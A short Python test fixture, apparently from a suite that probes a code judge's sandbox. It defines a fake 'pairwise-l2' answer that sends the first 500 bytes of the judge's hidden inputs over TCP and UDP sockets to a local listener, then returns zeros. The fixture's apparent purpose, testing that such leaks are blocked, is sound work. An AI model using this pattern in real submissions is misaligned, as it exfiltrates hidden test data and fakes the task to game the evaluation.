"""As phoned_home, but from within a function that the judge calls: with hidden inputs at hand."""

from attacking import Attack

PHONES = """
import socket

def pairwise_l2(a, b):
    for kind, port in ((socket.SOCK_STREAM, PORT), (socket.SOCK_DGRAM, UDP_PORT)):
        try:
            with socket.socket(socket.AF_INET, kind) as line:
                line.connect(("127.0.0.1", port))
                line.send(a.tobytes()[:500])
        except OSError:
            pass
    return np.zeros((len(a), len(b)))
"""
ATTACK = Attack(answers={"pairwise-l2": PHONES}, wins=lambda run: run.knocked == 2)
